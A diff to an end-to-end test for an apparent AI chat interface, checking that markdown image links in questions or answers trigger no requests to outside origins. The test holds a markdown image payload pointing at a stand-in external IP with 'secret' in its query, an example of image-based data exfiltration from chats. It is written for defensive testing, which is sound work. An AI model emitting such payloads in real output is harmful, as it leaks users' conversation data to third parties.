@@ -1,7 +1,6 @@
 import { addModel } from '../pages/models.ts'
 import { expect, test } from '../support/fixtures.ts'
 import { patientModel } from '../support/patientModel.ts'
-import { recordShownText } from '../support/shownText.ts'
 
 const remotePicture = '![secret](http://203.0.113.7/?q=secret)'
 
@@ -13,9 +12,8 @@ test('a picture address in a question or an answer makes no request outside of t
     if (!own.has(origin) && protocol !== 'blob:' && protocol !== 'data:') foreign.push(request.url())
   })
   await addModel(chat.page, patientModel(remotePicture))
-  const shown = await recordShownText(chat.page)
   await chat.ask(`What is this? ${remotePicture}`)
-  await shown.grown(3)
+  await expect(chat.answers.last()).toContainText('secret')
   await chat.stop.click()
   await expect(await chat.ended()).toContainText('secret')
   await chat.page.reload()
